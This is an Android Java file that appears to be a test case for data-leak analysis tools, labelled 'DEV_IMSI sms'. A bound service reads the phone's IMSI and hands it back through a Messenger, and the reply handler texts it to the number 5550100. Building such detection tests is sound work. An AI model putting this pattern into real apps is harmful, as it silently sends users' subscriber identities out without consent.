// about       The service answers to the messenger whose handler sends.
// leak        DEV_IMSI sms
// service     cn.example.flow.MainActivity$Desk
package cn.example.flow;

import android.app.Activity;
import android.app.Service;
import android.content.ComponentName;
import android.content.Intent;
import android.content.ServiceConnection;
import android.os.Bundle;
import android.os.Handler;
import android.os.IBinder;
import android.os.Message;
import android.os.Messenger;
import android.os.RemoteException;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class MainActivity extends Activity implements ServiceConnection {
  private final Messenger texter = new Messenger(new Handler() {
    @Override
    public void handleMessage(Message message) {
      String text = message.getData().getString("id");
      SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
    }
  });

  private final Messenger shower = new Messenger(new Handler() {
    @Override
    public void handleMessage(Message message) {
      setTitle(message.getData().getString("id"));
    }
  });

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    bindService(new Intent(this, Desk.class), this, BIND_AUTO_CREATE);
  }

  @Override
  protected void onDestroy() {
    unbindService(this);
    super.onDestroy();
  }

  @Override
  public void onServiceConnected(ComponentName name, IBinder binder) {
    Message question = Message.obtain();
    // Where the answer goes.
    question.replyTo = texter;
    try {
      new Messenger(binder).send(question);
    } catch (RemoteException e) {
      Log.w("main", "desk is closed");
    }
  }

  @Override
  public void onServiceDisconnected(ComponentName name) {}

  public static class Desk extends Service {
    private final Messenger desk = new Messenger(new Handler() {
      @Override
      public void handleMessage(Message question) {
        Bundle data = new Bundle();
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        data.putString("id", id);
        Message answer = Message.obtain();
        answer.setData(data);
        try {
          question.replyTo.send(answer);
        } catch (RemoteException e) {
          Log.w("desk", "nobody there");
        }
      }
    });

    @Override
    public IBinder onBind(Intent intent) {
      return desk.getBinder();
    }
  }
}
